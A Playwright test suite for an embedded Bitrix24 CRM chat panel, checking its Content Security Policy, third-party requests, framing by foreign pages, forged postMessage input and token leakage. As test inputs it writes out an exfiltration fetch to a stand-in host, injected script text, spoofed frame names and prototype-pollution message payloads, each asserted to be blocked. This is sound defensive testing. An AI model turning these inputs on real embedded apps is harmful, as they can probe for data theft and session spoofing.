import { createHash } from 'node:crypto'
import type { Frame, Page, Request } from '@playwright/test'
import { readBuiltFiles, textOf } from '../../manifest/built-files.ts'
import { hostingHeaders, pagePolicy, TRIAL_ANCESTORS } from '../../manifest/security-policy.ts'
import { expect, test } from '../specs/card-page.ts'
import type { Portal } from '../portal/types.ts'
import { serveForeignPage } from './foreign-page.ts'

const SEND = 'imopenlines.crm.message.add'
const LAURA = /^Laura Bennett, Telegram/

/** Messages of the browser when a policy blocks something. */
const STOPPED = /Content Security Policy|Trusted(?:HTML|Script|TypePolicy)/

test.describe('the policy of the built page', () => {
  test('comes with the page itself and, from a host that can, as a header', async ({ request, baseURL }) => {
    const answer = await request.get(baseURL ?? '')
    const html = await answer.text()
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)
    expect(meta?.[1]?.replaceAll('&#39;', "'")).toBe(pagePolicy)
    // A policy only applies to what comes after it.
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.search(/<(?:script|link|style)/))
    // What stands in the page is what its policy lets through: the skeleton's styles.
    const inline = [...html.matchAll(/<style[^>]*>(.*?)<\/style>/gs)].map(([, text = '']) => text)
    const hashes = inline.map((text) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`)
    expect(hashes).toHaveLength(1)
    expect(pagePolicy).toContain(`style-src 'self' ${hashes.join()};`)
    expect(html).not.toMatch(/\sstyle=|<script(?![^>]*\ssrc=)/)
    for (const [name, value] of Object.entries(hostingHeaders(TRIAL_ANCESTORS)))
      expect(answer.headers()[name.toLowerCase()]).toBe(value)
  })

  test('runs no inline script, takes no text for HTML, sends nothing to strangers', async ({ card, portal }) => {
    card.expectNoise(STOPPED)
    await card.open()
    await expect(card.log.getByRole('article').last()).toBeVisible()
    const frame = await card.frame()
    const attempts = await frame.evaluate(async (portalOrigin) => {
      const outcome = async (attempt: () => unknown): Promise<string> => {
        try {
          await attempt()
          return 'done'
        } catch (error) {
          return error instanceof Error ? error.name : String(error)
        }
      }
      const styled = document.createElement('p')
      const style = document.createElement('style')
      style.textContent = 'p { color: rgb(1, 2, 3) }'
      document.body.append(styled, style)
      const found = {
        html: await outcome(() => (document.body.innerHTML += '<b>x</b>')),
        script: await outcome(() => (document.createElement('script').textContent = 'globalThis.__pwned = 1')),
        policy: await outcome(() => {
          const { trustedTypes } = globalThis as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): object }
          }
          return trustedTypes.createPolicy('mine', {})
        }),
        style: getComputedStyle(styled).color === 'rgb(1, 2, 3)' ? 'done' : 'stopped',
        stranger: await outcome(() =>
          fetch('https://stranger.example/', { method: 'POST', body: 'x', mode: 'no-cors' }),
        ),
        otherPort: await outcome(() => fetch(`${location.origin.replace(/\d+$/, '9')}/`, { mode: 'no-cors' })),
        portal: await outcome(() => fetch(`${portalOrigin}/rest/profile`, { method: 'POST' })),
      }
      styled.remove()
      style.remove()
      return found
    }, portal.origin)
    expect(attempts).toEqual({
      html: 'TypeError',
      script: 'TypeError',
      policy: 'TypeError',
      style: 'stopped',
      stranger: 'TypeError',
      otherPort: 'TypeError',
      portal: 'done',
    })
    card.expectNoise()
  })
})

test.describe('no third party', () => {
  /** Addresses in the built files that are never requested: XML namespaces, and pages about errors. */
  const NEVER_ASKED = [
    /^http:\/\/www\.w3\.org\//,
    /^https:\/\/react\.dev\/errors\//,
    /^https:\/\/(?:www\.)?github\.com\//,
    /^https:\/\/bitrix24\.github\.io\//,
    /^https:\/\/apidocs\.bitrix24\.com/,
    /^https:\/\/tailwindcss\.com$/,
  ]

  test('the built files name none', () => {
    const files = readBuiltFiles('dist')
    const code = [...files.keys()].filter((path) => /\.(?:js|css|html|svg)$/.test(path))
    expect(code.length).toBeGreaterThan(10)
    const addresses = code.flatMap((path) =>
      // Logos name their source.
      [
        ...textOf(files, path)
          .replace(/\b(?:source|guidelines):\s*[`"'][^`"']*/g, '')
          .matchAll(/\b(?:https?|wss?):\/\/[^\s"'`)<>\\;]+/g),
      ].map(([found]) => found),
    )
    const hosts = /^(?:https?|wss?):\/\/(?:[\w-]+\.)+[a-z]{2,}/i
    expect(
      addresses.filter((address) => hosts.test(address) && !NEVER_ASKED.some((known) => known.test(address))),
    ).toEqual([])
  })

  const originsAsked = (page: Page) => {
    const origins = new Map<string, string>()
    const note = (address: string) => {
      const { protocol, host } = new URL(address)
      // Addresses without a host cause no request.
      if (!/^(?:data|blob|about):$/.test(protocol)) origins.set(host, address)
    }
    page.on('request', (request) => note(request.url()))
    page.on('websocket', (socket) => note(socket.url()))
    return origins
  }
  const expectTwo = (origins: Map<string, string>, portal: Portal, baseURL: string | undefined) =>
    expect([...origins.keys()].toSorted()).toEqual(
      [new URL(portal.origin).host, new URL(baseURL ?? '').host].toSorted(),
    )

  test('a session in a card asks the portal and the app alone', async ({ card, portal, baseURL }) => {
    const origins = originsAsked(card.page)
    await card.open()
    await card.choose(LAURA)
    await expect(card.details).toBeVisible()
    await card.reply('See you tomorrow')
    await expect(card.message('See you tomorrow').getByText('Delivered')).toBeAttached()
    await card.log.hover()
    await card.page.mouse.wheel(0, -4_000)
    expectTwo(origins, portal, baseURL)
  })

  test.describe('not installed yet', () => {
    test.use({ portalOptions: { installed: false } })
    test('nor does the installer, nor the home page', async ({ card, portal, baseURL }) => {
      const origins = originsAsked(card.page)
      await card.openFromMenu({ user: 1 })
      await expect(card.panel.getByText('Installed', { exact: true })).toBeVisible()
      await expect.poll(() => portal.application.placements.length).toBe(4)
      expectTwo(origins, portal, baseURL)
    })
  })
})

test.describe('who frames the panel', () => {
  const outside = 'This panel lives inside Bitrix24'

  /** A page that frames the app under a chosen name, plays the portal, and records what it receives. */
  const playPortal = (appUrl: string, name: string, init: object = {}) => `
    <iframe id="app" name="${name}" style="width:1000px;height:700px"></iframe>
    <script>
      globalThis.heard = []
      addEventListener('message', ({ data }) => {
        heard.push(String(data))
        const [command, callback] = String(data).split(':')
        if (command === 'getInitData') document.querySelector('iframe').contentWindow.postMessage(callback + ':' + ${JSON.stringify(JSON.stringify(init))}, '*')
      })
      document.querySelector('iframe').src = ${JSON.stringify(appUrl)}
    </script>`

  for (const [what, name] of [
    ['names a real portal', 'PORTAL|0|0123456789abcdef'],
    ['names a cloud portal', 'acme.bitrix24.com|1|0123456789abcdef'],
    ['writes itself into an address', 'PORTAL@FOREIGN|0|0123456789abcdef'],
    ['names a path', 'FOREIGN/x|0|0123456789abcdef'],
    ['names no APP_SID', 'FOREIGN|0|'],
    ['claims to be reached in the open', 'portal.example|0|0123456789abcdef'],
  ] as const) {
    test(`a foreign page that ${what} is told nothing`, async ({ page, portal, baseURL }) => {
      const foreign = await serveForeignPage('')
      const frameName = name.replace('PORTAL', new URL(portal.origin).host).replace('FOREIGN', foreign.host)
      await page.goto(foreign.origin)
      await page.setContent(playPortal(baseURL ?? '', frameName))
      await expect(page.frameLocator('iframe').getByRole('heading', { name: outside })).toBeVisible()
      expect(await page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard)).toEqual([])
      expect(portal.counters.requests).toBe(0)
      await foreign.close()
    })
  }

  test('a foreign page that plays portal under its own name reaches nothing that belongs to a real one', async ({
    card,
    portal,
    baseURL,
  }) => {
    await card.open()
    await card.choose(LAURA)
    await card.field.fill('A secret half written')
    await expect
      .poll(async () => (await card.frame()).evaluate(() => JSON.stringify(localStorage)))
      .toMatch(/:sealed:\d+"/)

    // It claims the other portal's MEMBER_ID and its user: both can be found out.
    const rest = { AUTH_ID: 'x', REFRESH_ID: 'x', AUTH_EXPIRES: 3600, MEMBER_ID: portal.application.memberId }
    const place = {
      PLACEMENT: 'CRM_DEAL_DETAIL_TAB',
      PLACEMENT_OPTIONS: { ID: String(portal.world.showcase.deal) },
      LANG: 'en',
    }
    const foreign = await serveForeignPage('')
    const asked: Request[] = []
    await card.page.route(`${foreign.origin}/rest/**`, async (route) => {
      asked.push(route.request())
      // The answers are those of the real portal, to a call of its user.
      const body = new URLSearchParams(route.request().postData() ?? '')
      body.set('auth', portal.application.issueSession(11).AUTH_ID)
      const answer = await fetch(route.request().url().replace(foreign.origin, portal.origin), { method: 'POST', body })
      await route.fulfill({
        status: answer.status,
        headers: { 'access-control-allow-origin': '*' },
        body: await answer.text(),
      })
    })
    await card.page.goto(foreign.origin)
    await card.page.setContent(playPortal(baseURL ?? '', `${foreign.host}|0|0123456789abcdef`, { ...rest, ...place }))
    await card.row(LAURA).click()
    await expect(card.field).toHaveValue('')
    expect(asked.length).toBeGreaterThan(0)
    expect(asked.map((request) => request.postData()).join('\n')).not.toContain('secret')
    // Pending answers end before their portal does.
    await card.page.unrouteAll({ behavior: 'wait' })
    await foreign.close()
  })

  test('messages from any other window change nothing', async ({ card, portal, baseURL }) => {
    await card.open()
    await card.choose(LAURA)
    const before = await card.list.innerText()
    const requests = portal.counters.requests
    const foreign = await serveForeignPage('')
    // A foreign frame in the portal's page, for example an embedded widget.
    await card.page.evaluate((address) => {
      const frame = document.createElement('iframe')
      frame.src = address
      frame.name = 'stranger'
      document.body.append(frame)
    }, foreign.origin)
    await expect.poll(() => card.page.frame('stranger')?.url()).toContain(foreign.host)
    const stranger = card.page.frame('stranger') as Frame
    await stranger.evaluate(() => {
      const guesses: unknown[] = [
        'getInitData:{"AUTH_ID":"x","DOMAIN":"stranger.example"}',
        '1:{"AUTH_ID":"x","REFRESH_ID":"x","AUTH_EXPIRES":3600}',
        'refreshAuth:{"AUTH_ID":"x"}:1:sid',
        ':::',
        'junk:not json',
        '__proto__:{"polluted":1}',
        'constructor:{"polluted":1}',
        { method: 'refreshAuth', params: { AUTH_ID: 'x' }, callback: '1' },
        null,
      ]
      const app = parent.frames[0]
      for (const guess of guesses) app?.postMessage(guess, '*')
    })
    // The panel ignored the messages and still uses its own token.
    await card.reply('Still with us')
    await expect(card.message('Still with us').getByText('Delivered')).toBeAttached()
    expect((await card.list.innerText()).split('\n')[0]).toBe(before.split('\n')[0])
    expect(portal.counters.requests).toBeGreaterThan(requests)
    expect(portal.counters.executed(SEND)).toBe(1)
    expect((await card.frame()).url()).toContain(new URL(baseURL ?? '').host)
    await foreign.close()
  })
})

test.describe('tokens', () => {
  /** Collects every token the portal issues from now on. */
  const tokensOf = ({ application }: Portal): Set<string> => {
    const given = new Set<string>()
    const note = <T extends { AUTH_ID: string; REFRESH_ID: string } | null>(session: T): T => {
      if (session) given.add(session.AUTH_ID).add(session.REFRESH_ID)
      return session
    }
    const issueSession = application.issueSession.bind(application)
    const refresh = application.refresh.bind(application)
    application.issueSession = (userId) => note(issueSession(userId))
    application.refresh = (refreshId) => note(refresh(refreshId))
    return given
  }

  /** Everything the browser stores for the app's origin, as text. */
  const stored = (frame: Frame): Promise<string> =>
    frame.evaluate(async () => {
      const entries = (storage: Storage) => Object.entries({ ...storage })
      const open = (name: string) =>
        new Promise<IDBDatabase>((resolve, reject) => {
          const request = indexedDB.open(name)
          request.addEventListener('success', () => resolve(request.result))
          request.addEventListener('error', () => reject(request.error ?? new Error(name)))
        })
      const rows = (db: IDBDatabase, store: string) =>
        new Promise<unknown>((resolve) => {
          const request = db.transaction(store).objectStore(store).getAll()
          request.addEventListener('success', () => resolve(request.result))
        })
      const databases: unknown[] = []
      for (const { name = '' } of await indexedDB.databases()) {
        const db = await open(name)
        for (const store of db.objectStoreNames) databases.push([name, store, await rows(db, store)])
        db.close()
      }
      const responses: string[] = []
      // Caches exist in secure contexts only.
      for (const name of 'caches' in globalThis ? await caches.keys() : [])
        for (const request of await (await caches.open(name)).keys()) responses.push(request.url)
      const page = [
        document.documentElement.outerHTML,
        document.title,
        document.cookie,
        location.href,
        window.name,
        history.state,
      ]
      return JSON.stringify([entries(localStorage), entries(sessionStorage), databases, responses, page])
    })

  test('appear in no storage, no address, no document and no console, whatever happens', async ({
    card,
    portal,
    page,
  }) => {
    test.setTimeout(60_000)
    card.expectNoise()
    const tokens = tokensOf(portal)
    const said: string[] = []
    page.on('console', (message) => said.push(message.text()))
    page.on('pageerror', (error) => said.push(`${String(error)} ${error.stack ?? ''}`))
    page.on('request', (request) => said.push(request.url(), request.headers()['referer'] ?? ''))
    const leaks = (text: string) => [...tokens].filter((token) => text.includes(token))
    const look = async () => leaks(said.join('\n') + (await stored(await card.frame())))

    await card.open()
    await card.choose(LAURA)
    await card.reply('A reply that goes out')
    await expect(card.message('A reply that goes out').getByText('Delivered')).toBeAttached()
    expect(tokens.size).toBeGreaterThan(0)
    expect(await look()).toEqual([])

    // The token expires, a reply is refused, answers get lost, the portal fails altogether.
    const before = tokens.size
    portal.application.expireTokens()
    portal.faults.set({ method: SEND, kind: 'refuse', code: 'CHAT_NOT_IN_CRM', times: 1 })
    await card.reply('A reply that is refused')
    await expect.poll(() => tokens.size).toBeGreaterThan(before)
    await expect(card.message('A reply that is refused').getByRole('button').first()).toBeVisible()
    portal.faults.set({ method: SEND, kind: 'drop-after', times: 1 })
    portal.faults.set({ method: 'batch', kind: 'bad-gateway', times: 2 })
    await card.field.fill('A draft that stays')
    expect(await look()).toEqual([])

    portal.faults.clear()
    portal.faults.set({ method: '*', kind: 'bad-gateway' })
    await card.page.reload()
    await expect(card.panel.getByRole('button', { name: 'Try again' }).first()).toBeVisible()
    expect(await look()).toEqual([])
    // Proves that the search finds something: draft and card are stored, without their words, which are only on screen.
    const kept = JSON.stringify((JSON.parse(await stored(await card.frame())) as unknown[]).slice(0, 3))
    expect(kept).toMatch(/:sealed:\d+"/)
    expect(kept).toMatch(/:card\d+:deal/)
    expect(kept).not.toMatch(/A draft that stays|A reply that goes out/)
    await expect(card.field).toHaveValue('A draft that stays')
  })
})
